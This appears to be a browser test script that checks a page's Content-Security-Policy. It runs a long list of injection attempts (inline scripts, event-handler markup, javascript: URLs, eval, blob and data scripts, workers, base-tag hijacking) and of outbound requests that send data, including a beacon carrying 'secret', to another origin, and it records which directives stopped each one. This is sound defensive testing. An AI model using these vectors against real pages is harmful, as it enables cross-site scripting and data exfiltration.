// What somebody would try who got a word into the page, one after the other. `elsewhere` is another origin, which hears what
// is asked of it. Tells of each attempt that is not `skipped` which directives stopped it, and whether it ran.

const [elsewhere, skipped, done] = arguments;

const PATIENCE = 400;
const AFTER = 30;

const marks = new Set();
window.ran = name => marks.add(name);
const away = (name, type) => `${elsewhere}/hit/${name}.${type}`;
const code = name => `window.ran('${name}')`;

const make = (tag, attributes = {}) => {
  const element = document.createElement(tag);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  return element;
};
const put = (tag, attributes) => document.body.appendChild(make(tag, attributes));
const html = text => document.body.insertAdjacentHTML('beforeend', text);
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const script = 'text/javascript';

const attacks = {
  // Code of its own.
  'inline-script': name => put('script').append(code(name)),
  'inline-script-by-fragment': name => {
    const range = document.createRange();
    range.selectNode(document.body);
    document.body.append(range.createContextualFragment(`<script>${code(name)}</script>`));
  },
  'inline-module': name => {
    const module = make('script', { type: 'module' });
    module.append(code(name));
    document.body.append(module);
  },
  'import-map': name => {
    const map = make('script', { type: 'importmap' });
    map.append(JSON.stringify({ imports: { app: away(name, 'js') } }));
    document.body.append(map);
    return import('app');
  },
  'speculation-rules': name => {
    const rules = make('script', { type: 'speculationrules' });
    rules.append(JSON.stringify({ prefetch: [{ source: 'list', urls: [away(name, 'html')] }] }));
    document.body.append(rules);
  },
  'handler-in-markup': name => html(`<img src="data:," onerror="${code(name)}">`),
  'handler-without-a-click': name => html(`<details open ontoggle="${code(name)}"></details>`),
  'handler-set-later': name => put('button', { onclick: code(name) }).click(),
  'javascript-link': name => put('a', { href: `javascript:${code(name)}` }).click(),
  'javascript-frame': name => put('iframe', { src: `javascript:parent.${code(name)}` }),
  'frame-with-markup': name => put('iframe', { srcdoc: `<script>parent.${code(name)}</script>` }),
  eval: name => window.eval(code(name)),
  'new-function': name => new Function(code(name))(),
  'timer-with-text': name => setTimeout(code(name)),
  'data-script': name => put('script', { src: `data:${script},${code(name)}` }),
  'blob-script': name => put('script', { src: blob(code(name), script) }),
  'data-import': name => import(`data:${script},${code(name)}`),
  'foreign-script': name => put('script', { src: away(name, 'js') }),
  'foreign-import': name => import(away(name, 'js')),
  'foreign-modulepreload': name => put('link', { rel: 'modulepreload', href: away(name, 'js') }),
  'blob-worker': name => {
    const work = `fetch('${away(name, 'txt')}', { mode: 'no-cors' })`;
    new Worker(blob(work, script));
  },
  'data-worker': name => new Worker(`data:${script},fetch('${away(name, 'txt')}', { mode: 'no-cors' })`),
  'blob-shared-worker': name => {
    new SharedWorker(blob(`fetch('${away(name, 'txt')}', { mode: 'no-cors' })`, script));
  },
  'base-address': name => {
    const base = make('base', { href: `${elsewhere}/hit/${name}/` });
    document.head.prepend(base);
    const moved = document.baseURI.startsWith(elsewhere);
    base.remove();
    if (moved) window.ran(name);
  },

  // A look of its own, by which a page can be made to say something else, or to give away what it says.
  'inline-style': name => {
    const probe = put('p', { id: name });
    put('style').append(`#${name} { --ran: yes }`);
    if (getComputedStyle(probe).getPropertyValue('--ran')) window.ran(name);
  },
  'style-attribute': name => {
    html(`<p id="${name}" style="--ran: yes"></p>`);
    if (document.getElementById(name).style.getPropertyValue('--ran')) window.ran(name);
  },
  'foreign-style': name => put('link', { rel: 'stylesheet', href: away(name, 'css') }),
  'foreign-font': name => new FontFace('stolen', `url(${away(name, 'woff2')})`).load(),
  'foreign-background': name => {
    put('p').style.backgroundImage = `url(${away(name, 'png')})`;
  },

  // Ways to tell somebody else.
  'foreign-image': name => put('img', { src: away(name, 'png') }),
  'foreign-svg-image': name => html(`<svg><image href="${away(name, 'png')}"></image></svg>`),
  'foreign-icon': name => document.head.append(make('link', { rel: 'icon', href: away(name, 'png') })),
  'foreign-audio': name => put('audio', { src: away(name, 'ogg'), preload: 'auto' }),
  'foreign-video-poster': name => put('video', { poster: away(name, 'png') }),
  'foreign-fetch': name => fetch(away(name, 'txt'), { mode: 'no-cors' }),
  'foreign-fetch-kept-alive': name => fetch(away(name, 'txt'), { mode: 'no-cors', keepalive: true }),
  'foreign-request': name => {
    const request = new XMLHttpRequest();
    request.open('GET', away(name, 'txt'));
    request.send();
  },
  'foreign-socket': name => new WebSocket(away(name, 'txt').replace('http', 'ws')),
  'foreign-events': name => new EventSource(away(name, 'txt')),
  'foreign-beacon': name => navigator.sendBeacon(away(name, 'txt'), 'secret'),
  'foreign-ping': name => {
    const link = put('a', { href: '#', ping: away(name, 'txt') });
    link.click();
  },
  'foreign-frame': name => put('iframe', { src: away(name, 'html') }),
  'foreign-object': name => put('object', { data: away(name, 'html'), type: 'text/html' }),
  'foreign-embed': name => put('embed', { src: away(name, 'html'), type: 'text/html' }),
  'foreign-prefetch': name => document.head.append(make('link', { rel: 'prefetch', href: away(name, 'txt') })),
  'foreign-preload': name => {
    document.head.append(make('link', { rel: 'preload', as: 'image', href: away(name, 'png') }));
  },
  'foreign-form': name => {
    const form = put('form', { action: away(name, 'html'), target: 'sent' });
    put('iframe', { name: 'sent' });
    form.submit();
  },
  'form-of-its-own': () => put('form', { action: './?q=secret' }).submit(),
};

const settled = async (name, violations) => {
  const end = performance.now() + PATIENCE;
  while (performance.now() < end && !violations.length && !marks.has(name)) {
    await new Promise(next => setTimeout(next, 10));
  }
  await new Promise(next => setTimeout(next, AFTER));
};

const roots = [document.head, document.body];

const attempt = async name => {
  const before = new Set(roots.flatMap(root => [...root.children]));
  const violations = [];
  const heard = event => violations.push(event.effectiveDirective);
  document.addEventListener('securitypolicyviolation', heard);
  // What a driver runs may be beyond the policy, what it leaves behind is not.
  await new Promise(next =>
    setTimeout(async () => {
      try {
        await Promise.race([attacks[name](name), new Promise(end => setTimeout(end, PATIENCE))]);
      } catch {
        // Refused on the spot: the event says why.
      }
      next();
    }),
  );
  await settled(name, violations);
  document.removeEventListener('securitypolicyviolation', heard);
  const left = roots.flatMap(root => [...root.children]).filter(child => !before.has(child));
  left.forEach(child => child.remove());
  return { name, stopped: [...new Set(violations)], ran: marks.has(name) };
};

(async () => {
  const told = [];
  for (const name of Object.keys(attacks)) {
    if (!skipped.includes(name)) told.push(await attempt(name));
  }
  done(told);
})();
